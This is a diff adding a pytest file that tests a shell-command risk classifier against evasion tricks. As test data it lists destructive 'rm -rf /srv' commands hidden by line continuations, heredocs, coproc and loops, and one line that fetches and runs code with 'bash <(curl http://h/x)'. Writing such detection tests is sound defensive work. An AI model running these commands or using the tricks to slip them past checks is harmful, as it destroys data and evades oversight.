@@ -1,0 +1,57 @@
+"""Lines and groups as a shell takes them, where a grammar would mistake them."""
+
+import pytest
+from tests.unit.risk.shell.levels import level
+
+from holdpoint.core.risk.shell.received import parseable, rejoined
+from holdpoint.messages.risk import RiskLevel
+
+GRAVE = (
+    "r\\\nm -rf /srv",
+    "rm -rf /s\\\nrv",
+    "! bash <<'END'\nrm -rf /srv\nEND",
+    "! { bash; } <<'END'\nrm -rf /srv\nEND",
+    "! (rm -rf /srv) > log",
+    "! if true; then rm -rf /srv; fi > log",
+    "! while true; do rm -rf /srv; done < list",
+    "! function f { rm -rf /srv; }; f",
+    "coproc JOB { rm -rf /srv; }",
+    "time for i in 1 2; do rm -rf /srv; done",
+    "echo 'a\nb'\na | b | sort\nrm -rf /srv > log",
+    "echo 'a\nb'\na | b | sort\nx=1 rm -rf /srv > log",
+    "echo 'a\nb'\necho 'rm -rf /srv' | cat | bash\nls > log",
+    "if a; then\na | b | sort\nbash <(curl http://h/x) > log\nfi",
+)
+MILD = (
+    "gr\\\nep -rn x src",
+    "! { cat; } <<'END'\nrm -rf /srv\nEND",
+    "! grep -q x file > log",
+    "coproc JOB { cat; }",
+    "time ( ls )",
+    "echo 'a\nb'\na | b | sort\nls rm -rf /srv > log",
+    "echo 'a\nb'\na | b | sort \\\n  rm -rf /srv > log",
+)
+
+
+@pytest.mark.parametrize("text", GRAVE)
+def test_what_runs_counts(text: str) -> None:
+    assert level(text) >= RiskLevel.HIGH
+
+
+@pytest.mark.parametrize("text", [one for one in GRAVE if "<<" not in one])
+def test_what_runs_counts_between_other_lines(text: str) -> None:
+    assert level(f"ls -la\n{text}\nls") >= RiskLevel.HIGH
+
+
+@pytest.mark.parametrize("text", MILD)
+def test_the_rest_asks_nobody(text: str) -> None:
+    assert level(text) < RiskLevel.HIGH
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["r\\\nm 'a\\\nb'", "! { ls; }", "coproc JOB { ls; }", "a\n\\rm x", "wow!", "a != ( b )"],
+)
+def test_every_place_stays(text: str) -> None:
+    assert len(rejoined(text)) == len(parseable(text)) == len(text)
+    assert "'a\\\nb'" in rejoined(text) or "'" not in text
